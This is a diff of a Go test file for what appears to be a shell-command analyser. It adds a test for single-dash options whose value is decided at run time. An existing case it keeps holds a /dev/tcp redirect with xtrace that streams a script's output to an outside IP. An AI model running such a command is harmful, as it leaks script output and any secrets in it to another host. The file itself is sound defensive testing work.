@@ -246,3 +246,14 @@ func TestSecretRoutesC6More(t *testing.T) {
 		{name: "exec 2>/dev/tcp", shell: "bash", hostile: "exec 2>/dev/tcp/203.0.113.9/9; set -x; true", want: "everything the script prints from here on"},
 	})
 }
+
+// A one-dash option written -opt="$x" is that option with a value
+// decided at run time, read as its kind says (as --opt="$x" is); an
+// option name decided at run time stays not understood.
+func TestSingleDashOptionWithValueDecidedAtRunTime(t *testing.T) {
+	checkTwins(t, []twin{
+		{name: "-chdir", hostile: "terraform \"$opt\" plan", want: "an option decided at run time",
+			benign: "for d in infra/prod infra/staging; do terraform -chdir=\"$d\" fmt -check; done"},
+		{name: "a program's value", hostile: "go test -exec=\"$X\" ./...", want: "decided at run time"},
+	})
+}
